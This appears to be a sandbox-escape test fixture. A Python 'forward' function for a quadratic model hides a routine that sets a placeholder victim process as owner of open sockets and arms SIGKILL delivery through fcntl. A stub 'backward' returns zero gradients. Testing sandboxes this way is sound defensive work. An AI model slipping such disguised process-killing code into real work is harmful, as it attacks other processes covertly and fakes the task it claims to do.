# what: Make another process the owner of the channel, and have the kernel signal it.
# verdict: raised
# breach: signal: the other process has ended
# defence: seccomp landlock identity
import fcntl
import os
import signal
import stat


def forward(x, w1, w2, b):
    for descriptor in range(3, 64):
        try:
            if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                continue
        except OSError:
            continue
        fcntl.fcntl(descriptor, fcntl.F_SETOWN, int("@victim@"))
        fcntl.fcntl(descriptor, 10, signal.SIGKILL)
        fcntl.fcntl(descriptor, fcntl.F_SETFL, fcntl.fcntl(descriptor, fcntl.F_GETFL) | os.O_ASYNC)
    return w1 * x**2 + w2 * x + b


def backward(x, y, w1, w2, b):
    return {"w1": 0.0, "w2": 0.0, "b": 0.0}
